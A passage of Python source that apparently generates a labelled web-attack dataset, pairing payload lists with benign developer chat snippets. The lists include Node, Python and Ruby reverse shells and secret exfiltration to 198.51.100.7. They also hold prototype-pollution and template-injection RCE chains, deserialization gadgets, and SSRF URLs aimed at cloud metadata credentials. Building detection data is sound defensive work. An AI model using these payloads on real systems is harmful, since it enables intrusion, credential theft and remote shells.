    "eval(atob('" + NODE_SHELL_B64 + "'))",
    "require('fs').readFileSync('/proc/self/environ').toString()",
    "require('fs').writeFileSync('/app/public/x.js','require(\"child_process\").exec(process.argv[2])')",
    '(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var client=new net.'
    'Socket();client.connect(4444,"198.51.100.7",function(){client.pipe(sh.stdin);sh.stdout.pipe(client);'
    'sh.stderr.pipe(client);});return /a/;})()',
    "const vm=require('vm'); vm.runInNewContext('this.constructor.constructor(\"return process\")().mainModule"
    ".require(\"child_process\").execSync(\"id\").toString()')",
    "const err=new Error(); err.name={toString:new Proxy(()=>'',{apply(t,a,args){throw args}})}; "
    "try{err.stack}catch(e){e.constructor.constructor('return process')().mainModule.require('child_process')"
    ".execSync('touch pwned')}",
    "Error.prepareStackTrace=(e,frames)=>{frames.constructor.constructor('return process')().mainModule"
    ".require('child_process').execSync('id')}; (async()=>{}).constructor('return 1')(); new Error().stack",
    "delete require.cache[require.resolve('./config')]; require('./config')",
    "require.cache[Object.keys(require.cache)[0]].exports.secret",
    "module.children[0].exports",
    "res.end(JSON.stringify(process.env))",
    "process.dlopen(module, '/tmp/evil.node')",
    "globalThis.process.getBuiltinModule('child_process').execSync('id')",
    "import('child_process').then(m=>m.execSync('curl 198.51.100.7/$(whoami)'))",
    "require('util').promisify(require('child_process').exec)('id')",
    "require('http').get('http://198.51.100.7/?k='+process.env.JWT_SECRET)",
    "require('dns').lookup(require('os').hostname()+'.n.example.net',()=>{})",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id',function(e,o){console.log(o)})}()",
    '{"rce":"_$$ND_FUNC$$_function (){require(\'child_process\').exec(\'ls /\', function(error, stdout, '
    'stderr) { console.log(stdout) });}()"}',
    '{"__js_function":"function(){return process.mainModule.require(\'child_process\').execSync(\'id\')}"}',
    '{"$where":"this.constructor.constructor(\'return process\')().mainModule.require(\'child_process\')'
    '.execSync(\'sleep 5\')"}',
    "[].constructor.constructor('return this')().process.env",
    "\"\".sub.constructor('return process')().mainModule.require('fs').readdirSync('/')",
    "(()=>{}).constructor('return process')().exit()",
    "Reflect.construct(Function, ['return process'])().mainModule",
    "new (Object.getPrototypeOf(async function(){}).constructor)('return process')()",
    "new (require('worker_threads').Worker)(\"require('child_process').execSync('id')\",{eval:true})",
    "require(`child_${'process'}`).execSync(`id`)",
    "require('child'+'_process')['ex'+'ecSync']('id')",
    "this['constructor']['constructor']('return process')()['mainModule']['require']('child_process')"
    "['execSync']('id')",
    "\\u0072equire('child_process').exec('id')",
    "Deno.run({cmd:['id']})",
    "Bun.spawnSync(['id']).stdout.toString()",
    "require('inspector').open(9229,'0.0.0.0',true)",
]


def _q(*items: tuple[str, str]) -> tuple[tuple[str, str], ...]:
    return items


POLLUTION: list[Payload] = [
    RawQuery(_q(("__proto__[isAdmin]", "true"))),
    RawQuery(_q(("__proto__.isAdmin", "true"))),
    RawQuery(_q(("constructor[prototype][isAdmin]", "true")), encode_brackets=True),
    RawQuery(_q(("constructor.prototype.role", "admin"))),
    RawQuery(_q(("a[__proto__][polluted]", "1"), ("b", "2"))),
    RawQuery(_q(("filter[constructor][prototype][polluted]", "yes"))),
    RawQuery(_q(("__proto__[outputFunctionName]",
                 "x;process.mainModule.require('child_process').execSync('id');s"))),
    RawQuery(_q(("__proto__[client]", "1"), ("__proto__[escapeFunction]",
                 "JSON.stringify;process.mainModule.require('child_process').exec('id')"))),
    RawQuery(_q(("__proto__[shell]", "/proc/self/exe"),
                ("__proto__[argv0]", "console.log(require('child_process').execSync('id').toString())//"),
                ("__proto__[NODE_OPTIONS]", "--require /proc/self/cmdline"))),
    RawQuery(_q(("__proto__[env][NODE_OPTIONS]", "--inspect=198.51.100.7:9229")), encode_brackets=True),
    RawQuery(_q(("__proto__[block][type]", "Text"),
                ("__proto__[block][line]", "process.mainModule.require('child_process').execSync('id')"))),
    RawQuery(_q(("__proto__[sourceURL]", "\nreturn process.mainModule.require('child_process').execSync('id')//"))),
    RawQuery(_q(("__proto__[headers][x-forwarded-for]", "127.0.0.1"))),
    RawQuery(_q(("__pro__proto__to__[isAdmin]", "true"))),
    RawQuery(_q(("%5F%5Fproto%5F%5F%5BisAdmin%5D", "true"))),
    RawQuery(_q(("__proto__.toString", "1"))),
    RawQuery(_q(("__proto__[json spaces]", "10"))),
    RawQuery(_q(("__proto__[exposedHeaders]", "x-polluted"), ("__proto__[status]", "510"))),
    RawQuery(_q(("constructor[prototype][view options][outputFunctionName]",
                 "x;global.process.mainModule.require('child_process').exec('id');s"))),
    RawQuery(_q(("user[__proto__][role]", "admin"), ("user[name]", "mallory"))),
    RawQuery(_q(("__proto__[type]", "Program"), ("__proto__[body][0][type]", "MustacheStatement"),
                ("__proto__[body][0][path]", "0"), ("__proto__[body][0][params][0][type]", "NumberLiteral"),
                ("__proto__[body][0][params][0][value]",
                 "process.mainModule.require('child_process').execSync('id')")), encode_brackets=True),
    RawQuery(_q(("a.__proto__.b", "1"))),
    RawQuery(_q(("__proto__[parameterLimit]", "1"))),
    RawJson('{"__proto__":{"isAdmin":true}}'),
    RawJson('{"user":{"name":"mallory","__proto__":{"role":"admin"}}}'),
    RawJson('{"constructor":{"prototype":{"isAdmin":true}}}'),
    RawJson('{"\\u005f\\u005fproto\\u005f\\u005f":{"polluted":"yes"}}'),
    RawJson('{"__proto__":{"outputFunctionName":"_tmp1;global.process.mainModule.require(\'child_process\')'
            '.exec(\'id\');var __tmp2"}}'),
    RawJson('{"__proto__":{"shell":"node","NODE_OPTIONS":"--inspect=198.51.100.7:9229"}}'),
    RawJson('{"__proto__":{"argv0":"node","shell":"node","NODE_OPTIONS":"--require /proc/self/environ",'
            '"env":{"EVIL":"console.log(require(\'child_process\').execSync(\'id\').toString())//"}}}'),
    RawJson('{"__proto__":{"block":{"type":"Text","line":"process.mainModule.require(\'child_process\')'
            '.execSync(\'id\')"}}}'),
    RawJson('{"__proto__":{"sourceURL":"\\u000a;return global.process.mainModule.require(\'child_process\')'
            '.execSync(\'id\')//"}}'),
    RawJson('{"__proto__":{"type":"Program","body":[{"type":"MustacheStatement","path":0,"params":[{"type":'
            '"NumberLiteral","value":"process.mainModule.require(\'child_process\').execSync(\'id\')"}],'
            '"loc":{"start":0,"end":0}}]}}'),
    RawJson('{"settings":{"view options":{"outputFunctionName":"x;process.mainModule.require(\'child_process\')'
            '.execSync(\'id\');s"}}}'),
    RawJson('{"path":"__proto__.isAdmin","value":true}'),
    RawJson('[{"op":"add","path":"/__proto__/isAdmin","value":true}]'),
    RawJson('{"key":"constructor.prototype.polluted","val":"1"}'),
    RawJson('{"a":{"b":{"__proto__":{"toString":"x"}}}}'),
    RawJson('{"__proto__":{"status":555,"json spaces":" "}}'),
    RawJson('{"__proto__":{"client":true,"escapeFunction":"1;return global.process.mainModule.constructor._load('
            '\'child_process\').execSync(\'id\')"}}'),
    RawJson('{"constructor":{"name":"x","prototype":{"polluted":1}}}'),
    RawJson('{"__proto__.isAdmin":true,"name":"mallory"}'),
    RawJson('{"a.__proto__.polluted":"yes"}'),
    RawJson('{"profile":{"constructor":{"prototype":{"allowedHosts":["*"]}}}}'),
]

SSRF: list[Payload] = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://169.254.169.254/latest/api/token",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1beta1/instance/attributes/kube-env?alt=json",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management."
    "azure.com/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/opc/v2/instance/",
    "http://169.254.169.254/metadata/v1.json",
    "http://169.254.169.254/openstack/latest/meta_data.json",
    "http://169.254.170.2/v2/credentials/5f3c9a1e-7b2d-4c8e-9f0a-1b2c3d4e5f60",
    "http://instance-data/latest/meta-data/hostname",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "http://7f000001.c0a80001.rbndr.us/admin",
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/",
    "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/",
    "http://169.254.43518/latest/meta-data/",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "http://[::ffff:a9fe:a9fe]/latest/",
    "http://127.1/server-status",
    "http://0/admin",
    "http://0.0.0.0:6379/",
    "http://[::1]:8500/v1/agent/self",
    "http://localtest.me/admin",
    "http://2130706433/admin",
    "http://0x7f.1/",
    "http://allowed.example.com@127.0.0.1:2375/containers/json",
    "http://127.0.0.1#@allowed.example.com/",
    "http://127.0.0.1\\@allowed.example.com/",
    "http://allowed.example.com&@127.0.0.1# @allowed.example.com/",
    "https://allowed.example.com%40169.254.169.254/",
    "http:/\\/127.0.0.1/",
    "//169.254.169.254/latest/meta-data/",
    "\\\\169.254.169.254\\latest",
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A"
    "%2431%0D%0A%0A%0A%2A/1 * * * * bash -i >& /dev/tcp/198.51.100.7/4444 0>&1%0A%0A%0D%0A",
    "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM:%3Cx@example.net%3E%0D%0A",
    "dict://127.0.0.1:11211/stats",
    "file:///etc/passwd",
    "file://localhost/proc/self/environ",
    "ldap://127.0.0.1:389/%0astats%0aquit",
    "jar:http://198.51.100.7/x.jar!/index.html",
    "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    "http://172.17.0.1:2379/v2/keys/?recursive=true",
    "http://198.51.100.7/redirect?to=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
    '{"url":"http://metadata.google.internal/computeMetadata/v1/project/attributes/ssh-keys",'
    '"headers":{"Metadata-Flavor":"Google"}}',
    "http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nX-aws-ec2-metadata-token: AQAEAFz5x\r\n\r\n",
]

PYTHON: list[Payload] = [
    "__import__('os').system('id')",
    '__import__("subprocess").check_output(["id"]).decode()',
    "eval(\"__import__('os').popen('id').read()\")",
    "exec(\"import socket,subprocess,os;s=socket.socket();s.connect(('198.51.100.7',4444));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];import pty;pty.spawn('/bin/sh')\")",
    'import pty; pty.spawn("/bin/bash")',
    "os.popen('cat /etc/passwd').read()",
    "subprocess.Popen(['/bin/sh','-c','id'],stdout=subprocess.PIPE).communicate()",
    "getattr(__import__('o'+'s'),'sys'+'tem')('id')",
    "__builtins__.__dict__['__imp'+'ort__']('os').system('id')",
    "().__class__.__bases__[0].__subclasses__()[132].__init__.__globals__['popen']('id').read()",
    "compile('import os;os.system(\"id\")','<x>','exec')",
    "cos\nsystem\n(S'id'\ntR.",
    _b64(_pickle4(b"posix", b"system", b"id")),
    _b64(b"\x80\x02csubprocess\ncheck_output\nq\x00]q\x01X\x02\x00\x00\x00idq\x02a\x85q\x03Rq\x04."),
    "!!python/object/apply:os.system ['id']",
    "!!python/object/apply:subprocess.check_output [['cat', '/etc/passwd']]",
    "!!python/object/new:os.system [id]",
    "!!python/object/apply:builtins.eval [\"__import__('os').system('id')\"]",
    "!!python/object/new:type\n  args: ['z', !!python/tuple [], {'extend': !!python/name:exec }]\n"
    "  listitems: \"__import__('os').system('id')\"",
    "{0.__class__.__init__.__globals__}",
    "{user.__init__.__globals__[CONFIG][SECRET_KEY]}",
    "{app.__init__.__globals__[sys].modules[__main__].app.secret_key}",
    '{"__class__":{"__init__":{"__globals__":{"app":{"config":{"SECRET_KEY":"polluted"}}}}}}',
    "exec(__import__('base64').b64decode('" + _b64("import os;os.system('id')") + "'))",
    "os.execl('/bin/sh','sh','-c','id')",
    "__import__('ctypes').CDLL(None).system(b'id')",
    "sys.modules['os'].system('id')",
    "__loader__.load_module('os').system('id')",
    '{"py/object":"subprocess.Popen","py/newargs":[["id"]]}',
    '{"py/reduce":[{"py/function":"os.system"},{"py/tuple":["id"]}]}',
    "pd.read_pickle('http://198.51.100.7/frame.pkl')",
]

RUBY_GEM_YAML = (
    "--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::DependencyList\n  specs:\n"
    "  - !ruby/object:Gem::Source::SpecificFile\n    spec: &1 !ruby/object:Gem::StubSpecification\n"
    "      loaded_from: \"|id 1>&2\"\n  - !ruby/object:Gem::Source::SpecificFile\n      spec:\n")

RUBY: list[Payload] = [
    "`id`",
    "%x(cat /etc/passwd)",
    "%x{uname -a}",
    'Kernel.system("id")',
    "Kernel.exec('/bin/sh -c id')",
    "IO.popen('id').read",
    'open("|id").read',
    "Open3.capture2('id')",
    'eval("`id`")',
    "instance_eval(\"system('id')\")",
    "Object.send(:system, 'id')",
    '1.public_send(:instance_eval, "`whoami`")',
    "Kernel.const_get(:IO).popen('id').read",
    "Class.new.class_eval('system \"id\"')",
    "Process.spawn('nc 198.51.100.7 4444 -e /bin/sh')",
    "ERB.new(\"<%= `id` %>\").result(binding)",
    RUBY_GEM_YAML,
    "--- !ruby/object:ERB\nsrc: \"<%= `id` %>\"\n",
    "Marshal.load(Base64.decode64('" + _b64(_marshal_erb(b"`id`")) + "'))",
    _b64(_marshal_erb(b"<%= system('id') %>")),
    "method(:system).call('id')",
    "__send__(:eval, 'File.read(\"/etc/passwd\")')",
    "ruby -rsocket -e'f=TCPSocket.open(\"198.51.100.7\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
    "Net::HTTP.get(URI('http://169.254.169.254/latest/meta-data/'))",
]

GENERIC: dict[str, list[Payload]] = {
    "nodejs": NODEJS, "prototype-pollution": POLLUTION, "ssrf": SSRF, "python": PYTHON, "ruby": RUBY,
}


# ---------------------------------------------------------------------------------------------------------------
# Server-side template injection
# ---------------------------------------------------------------------------------------------------------------

HBS_CHAIN = (
    '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}'
    '{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}'
    "{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}"
    "{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}")

SSTI: dict[str, list[Payload]] = {
    "jinja2": [
        "{{config.items()}}",
        "{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "{{cycler.__init__.__globals__.os.popen('id').read()}}",
        "{{lipsum.__globals__['os'].popen('cat /etc/passwd').read()}}",
        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        r"{{request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')"
        r"('\x5f\x5fbuiltins\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fimport\x5f\x5f')('os')"
        r"|attr('popen')('id')|attr('read')()}}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}"
        "{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}",
        "{{ url_for.__globals__['current_app'].config['SECRET_KEY'] }}",
        "{{get_flashed_messages.__globals__['current_app'].config}}",
        "{{\"\".__class__.__base__.__subclasses__()[408]('id',shell=True,stdout=-1).communicate()}}",
        '{%print(lipsum|attr("__globals__"))%}',
        "{{ g.pop.__globals__.__builtins__['__import__']('os').popen('id').read() }}",
    ],
    "twig": [
        '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}',
        "{{['id']|filter('system')}}",
        "{{['cat /etc/passwd']|map('passthru')|join}}",
        "{{[0]|reduce('system','id')}}",
        "{{ app.request.server.all|join(',') }}",
        "{{'/etc/passwd'|file_excerpt(1,30)}}",
        "{% set cmd = 'id' %}{{ [cmd]|map('shell_exec')|join }}",
    ],
    "freemarker": [
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
        '${"freemarker.template.utility.Execute"?new()("id")}',
        "[#assign ex='freemarker.template.utility.ObjectConstructor'?new()]"
        "${ex(\"java.lang.ProcessBuilder\",\"id\").start()}",
        '<#assign value="freemarker.template.utility.JythonRuntime"?new()><@value>import os;os.system("id")</@value>',
        "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
        ".toURL().openStream().readAllBytes()?join(\" \")}",
        '<#assign classloader=article.class.protectionDomain.classLoader><#assign owc=classloader.loadClass('
        '"freemarker.template.ObjectWrapper")><#assign dwf=owc.getField("DEFAULT_WRAPPER").get(null)><#assign '
        'ec=classloader.loadClass("freemarker.template.utility.Execute")>${dwf.newInstance(ec,null)("id")}',
        "<#list .data_model?keys as k>${k} </#list>",
    ],
    "velocity": [
        "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($chr=$x.class.forName('java.lang.Character'))"
        "#set($str=$x.class.forName('java.lang.String'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()",
        '$class.inspect("java.lang.Runtime").type.getRuntime().exec("id")',
        '#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null)'
        '.exec("id")',
        "#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end",
        "#set($engine=$request.getClass().forName('javax.script.ScriptEngineManager').newInstance()"
        ".getEngineByName('js'))$engine.eval('java.lang.Runtime.getRuntime().exec(\"id\")')",
        "#set($a=7*7)${a}",
        "$request.getSession().getServletContext().getRealPath('/')",
    ],
    "thymeleaf": [
        '__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x',
        "__$%7bnew%20java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(%22id%22).getInputStream()).next()"
        "%7d__::.x",
        "[[${T(java.lang.System).getenv()}]]",
        "[(${T(java.lang.Runtime).getRuntime().exec('id')})]",
        "*{T(java.lang.Runtime).getRuntime().exec('id')}",
        "th:text=\"${@environment.getProperty('spring.datasource.password')}\"",
        "${#rt = @java.lang.Runtime@getRuntime(),#rt.exec('id')}",
    ],
    "smarty": [
        "{php}echo `id`;{/php}",
        "{system('id')}",
        "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\","
        "self::clearConfig())}",
        "{if system('cat /etc/passwd')}{/if}",
        "{$smarty.version}",
        "{fetch file='/etc/passwd'}",
    ],
    "erb": [
        "<%= `id` %>",
        '<%= system("cat /etc/passwd") %>',
        "<%= IO.popen('id').readlines() %>",
        "<%= File.open('/etc/passwd').read %>",
        "<%= 7 * 7 %>",
        "<%= require 'open3'; Open3.capture2('id') %>",
    ],
    "mako": [
        '${self.module.cache.util.os.system("id")}',
        "<% import os; x=os.popen('id').read() %>${x}",
        '${self.module.runtime.util.os.system("id")}',
        "<%! import subprocess %>${subprocess.check_output(['id'])}",
        "${__import__('os').popen('id').read()}",
    ],
    "tornado": [
        '{% import os %}{{ os.popen("id").read() }}',
        "{{handler.settings}}",
        "{% raw __import__('os').system('id') %}",
        "{{handler.application.settings['cookie_secret']}}",
    ],
    "handlebars": [
        HBS_CHAIN,
        '{{lookup (lookup this "constructor") "constructor"}}',
        "{{#with (lookup this.__proto__ \"constructor\")}}{{this.name}}{{/with}}",
        "{{{lookup this 'constructor'}}}",
    ],
    "pug": [
        "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\")"
        ".exec('id')}()}",
        "- var x = root.process.mainModule.require('child_process').execSync('id')",
        "#{global.process.mainModule.require('child_process').execSync('id').toString()}",
        "p= global.process.env",
    ],
    "nunjucks": [
        "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
        '{{ cycler.constructor("return process.env")() }}',
        "{{ joiner.constructor(\"return this.process\")().mainModule.require('child_process').execSync('id') }}",
        "{{''.constructor.constructor('return process')()}}",
    ],
    "ejs": [
        "<%= process.mainModule.require('child_process').execSync('id') %>",
        "<%- global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>",
        "<% require('child_process').exec('id') %>",
        "<%- include('/etc/passwd') %>",
        "<%= this.constructor.constructor('return process.env')() %>",
        "{{= it.constructor.constructor('return process')().mainModule.require('child_process').execSync('id') }}",
    ],
    "razor": [
        '@System.Diagnostics.Process.Start("cmd.exe","/c whoami")',
        '@{ var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "cmd.exe"; '
        'p.StartInfo.Arguments = "/c whoami"; p.Start(); }',
        '@System.IO.File.ReadAllText("C:\\\\Windows\\\\win.ini")',
        "@(System.Environment.GetEnvironmentVariables())",
        "@(7*7)",
    ],
    "go-template": [
        '{{printf "%s" .}}',
        "{{ .Config }}",
        '{{define "T1"}}<script>alert(1)</script>{{end}}{{template "T1"}}',
        '{{.System "id"}}',
        '{{ call .Exec "id" }}',
    ],
    "liquid": [
        "{{ 7 | times: 7 }}",
        "{% include '/etc/passwd' %}",
        "{{ site.data | jsonify }}",
        "{% for i in (1..1000000) %}{% for j in (1..1000000) %}x{% endfor %}{% endfor %}",
    ],
    "django": [
        "{% debug %}",
        "{{ messages.storages.0.signer.key }}",
        "{% load log %}{% get_admin_log 10 as log %}{% for e in log %}{{e.user.get_username}} : "
        "{{e.user.password}}{% endfor %}",
        "{{settings.SECRET_KEY}}",
    ],
    "polyglot": [
        "${{<%[%'\"}}%\\.",
        "{{7*7}}${7*7}<%= 7*7 %>${{7*7}}#{7*7}*{7*7}",
        "{{7*'7'}}",
        "${7*7}",
        "{{1337*1337}}",
        "[[${7*7}]]",
        "${\"z\".join(\"ab\")}",
        "a{*comment*}b",
        "{{dump(app)}}",
        "${T(java.lang.Math).random()}",
        "{{constructor.constructor('alert(1)')()}}",
    ],
}


# ---------------------------------------------------------------------------------------------------------------
# Attack records
# ---------------------------------------------------------------------------------------------------------------

FAMILIES: dict[str, dict[str, list[Payload]]] = {"java": JAVA, "generic": GENERIC, "ssti": SSTI}

NAMES: dict[str, list[str]] = {
    "java": ["q", "expr", "filter", "name", "redirect", "sort", "lang", "callback", "message", "config"],
    "generic": ["q", "code", "cb", "data", "path", "query", "script", "input", "value"],
    "ssrf": ["url", "webhook_url", "avatar_url", "feed", "image", "callback_url", "target", "redirect_uri", "src"],
    "ssti": ["template", "subject", "greeting", "message", "name", "title", "body", "signature"],
}


def _qs(rq: RawQuery) -> str:
    safe = "%._-" if rq.encode_brackets else "%[]._-"
    return "&".join(urllib.parse.quote(k, safe=safe) + "=" + urllib.parse.quote(v, safe="") for k, v in rq.items)


def _show(p: Payload) -> str:
    """The payload as the report prints it."""
    if isinstance(p, str):
        return p
    if isinstance(p, Pairs):
        return "&".join(f"{k}={v}" for k, v in p.items)
    if isinstance(p, RawBytes):
        return urllib.parse.quote(p.data, safe="")
    if isinstance(p, RawQuery):
        return _qs(p)
    return p.body


def _places(i: int, p: Payload, names: list[str]) -> list[tuple[str, dict[str, Any]]]:
    """The three requests carrying the i-th payload of a family."""
    if isinstance(p, str):
        return [(place, _place(place, name, p.replace("\r", " ").replace("\t", " ") if place == "header" else p))
                for place, name in three_places(i, names)]
    if isinstance(p, Pairs):
        pairs = list(p.items)
        return [("query", _get(_query("/api/users", [*pairs, ("page", "1")]))),
                ("form", _form("/admin/users/search", [("csrf_token", "t0k3n"), *pairs])),
                ("json", _json("/api/users", {"email": "a@example.org", **dict(pairs)}))]
    if isinstance(p, RawBytes):
        name = names[i % len(names)]
        quoted = urllib.parse.quote(p.data, safe="")
        form = _form("/admin/users/search", [("csrf_token", "t0k3n")])
        cookie = {**_get("/api/users?page=1"), "headers": {"User-Agent": UA, "Accept": "application/json",
                                                           "Cookie": f"session=abc123; {name}={quoted}"}}
        return [("query", _get(f"/api/users?{name}={quoted}&page=1")),
                ("form", {**form, "body": form["body"] + f"&{name}=" + urllib.parse.quote_plus(p.data)}),
                ("cookie", cookie)]
    if isinstance(p, RawQuery):
        qs = _qs(p)
        form = _form("/admin/users/search", [("csrf_token", "t0k3n")])
        return [("query", _get("/api/users?" + qs)), ("query", _get("/api/users/42?page=2&" + qs)),
                ("form", {**form, "body": form["body"] + "&" + qs})]
    return [("json", {**_json(uri, {}), "method": method, "body": p.body})
            for method, uri in (("POST", "/api/users"), ("PUT", "/api/users/42"), ("PATCH", "/api/users/42/settings"))]


def attacks() -> Iterator[dict[str, Any]]:
    for family, subs in FAMILIES.items():
        n = i = 0
        for sub, payloads in subs.items():
            names = NAMES["ssrf"] if sub == "ssrf" else NAMES[family]
            for p in payloads:
                for place, rec in _places(i, p, names):
                    n += 1
                    yield {**rec, "id": f"{SET}-{family}-{n:04d}", "category": family, "sub": sub,
                           "placement": place, "payload": _show(p)}
                i += 1


# ---------------------------------------------------------------------------------------------------------------
# Benign: developers' code in Slack, notification templates, stack traces and logs, configuration, settings
# documents, locales, public URLs and prose
# ---------------------------------------------------------------------------------------------------------------

DEVCODE = [
    "PSA: bump log4j-core to 2.17.1 in every service, 2.15 still allowed lookups through `${ctx:...}` in some "
    "patterns. Dependabot PRs are up, please merge yours today",
    "anyone know why we still call `Class.forName(\"org.postgresql.Driver\")` in LegacyDao? JDBC4 loads drivers "
    "through ServiceLoader anyway",
    "```\nObjectMapper mapper = new ObjectMapper();\nmapper.activateDefaultTyping(ptv, ObjectMapper.DefaultTyping"
    ".NON_FINAL);\n```\nis this ok if the PolymorphicTypeValidator only allows com.acme.events? I don't want to "
    "end up in a gadget chain write-up",
    "to run the migration locally: `./gradlew :billing:bootRun --args='--spring.profiles.active=local'`",
    "in node you almost never want `exec`, use `execFile('git', ['rev-parse', 'HEAD'])` so the args never go "
    "through a shell",
    "```js\nconst { spawn } = require('child_process');\nconst child = spawn('ffmpeg', ['-i', input, '-vf', "
    "'scale=640:-1', output]);\nchild.on('close', (code) => log.info({ code }, 'ffmpeg done'));\n```",
    "lodash `_.merge` with user JSON is how the __proto__ thing happened last year; we now merge into "
    "`Object.create(null)` and the schema rejects `__proto__` and `constructor` keys",
    "python folks: `subprocess.run([\"pg_dump\", \"-Fc\", dbname], check=True, capture_output=True)`, never "
    "`shell=True` with a string we build ourselves",
    "yaml.safe_load, not yaml.load. bandit (B506) will fail the build otherwise",
    "ruby tip: `Open3.capture3('convert', src, '-resize', '200x200', dst)` instead of backticks, it keeps the "
    "args separate",
    "can someone review the Thymeleaf change? I replaced `th:utext=\"${note.body}\"` with `th:text` so notes "
    "get escaped",
    "stack trace from staging:\n```\njava.lang.IllegalStateException: Failed to load ApplicationContext\n\tat "
    "org.springframework.test.context.cache.DefaultCacheAwareContextLoaderDelegate.loadContext("
    "DefaultCacheAwareContextLoaderDelegate.java:180)\nCaused by: org.h2.jdbc.JdbcSQLSyntaxErrorException: "
    "Table \"ORDERS\" not found\n```",
    "the SpEL in `@PreAuthorize(\"hasRole('ADMIN') or #userId == principal.id\")` runs on every call, keep it "
    "cheap",
    "`@Value(\"${app.mail.from:noreply@acme.io}\")` gives you a default when the property is missing",
    "why is jinja rendering `{{ user.name }}` as empty? oh, the context key is `member` not `user`",
    "Jackson: `@JsonTypeInfo(use = JsonTypeInfo.Id.NAME, property = \"type\")` plus `@JsonSubTypes` is the safe "
    "way, Id.CLASS lets the client pick any class on the classpath",
    "`process.env.NODE_ENV` is undefined in the worker because pm2 doesn't pass it, add it to the env block in "
    "ecosystem.config.js",
    "`JSON.parse(body, (k, v) => (k === '__proto__' ? undefined : v))` is what we ended up with for the webhook "
    "parser",
    "reminder: `eval` is banned by our eslint config (no-eval, no-implied-eval), so `setTimeout('refresh()', 10)` "
    "fails lint too. pass a function",
    "Python: `ast.literal_eval(s)` for the tuple strings from the old CSV export, not eval",
    "```python\nwith open(cache_path, 'rb') as fh:\n    data = pickle.load(fh)  # only our own cache, written by "
    "the same job\n```\nacceptable? the path is not user supplied",
    "`Runtime.getRuntime().availableProcessors()` returns 2 in the container even with a cpu limit of 4, we need "
    "-XX:ActiveProcessorCount",
    "groovy in the Jenkinsfile: `sh \"docker build -t ${IMAGE}:${env.BUILD_NUMBER} .\"` works, single quotes "
    "would not interpolate",
    "rails: `User.where(\"email = ?\", params[:email])`, and never `send(params[:method])`, we had that in the "
    "admin exporter until last sprint",
    "`Marshal.load` on the session cookie is gone since we moved to the JSON cookie serializer in Rails 7",
    "@channel the metadata service on the build runners now requires IMDSv2, so `curl http://169.254.169.254/"
    "latest/meta-data/` without a token returns 401. please use the aws cli in your scripts",
    "the JNDI lookup in our tomcat context.xml is just `java:comp/env/jdbc/OrdersDB`, nothing remote",
    "`new URL(\"https://api.stripe.com/v1/charges\")` is deprecated in JDK 20, use `URI.create(...).toURL()`",
    "fastjson is getting removed from the reporting service, swapping to Jackson 2.17. autoType was off but "
    "security wants it gone anyway",
    "handlebars partial is `{{> footer year=currentYear }}`; the helper `{{formatDate createdAt \"YYYY-MM-DD\"}}` "
    "lives in helpers/date.js",
    "`vm.runInNewContext` is not a sandbox btw, the node docs say so. for the formula feature let's use a real "
    "expression parser",
    "SnakeYAML 2.x: `new Yaml(new Constructor(Config.class, new LoaderOptions()))` is fine, global tags are "
    "rejected by default now",
    "the ERB in the mailer: `<%= link_to 'Reset password', edit_password_url(token: @token) %>`",
    "who owns `ssrf_guard.py`? it resolves the hostname and checks `ipaddress.ip_address(addr).is_private` before "
    "we fetch a webhook",
    "pug mixin usage: `+button('Save', { variant: 'primary' })`",
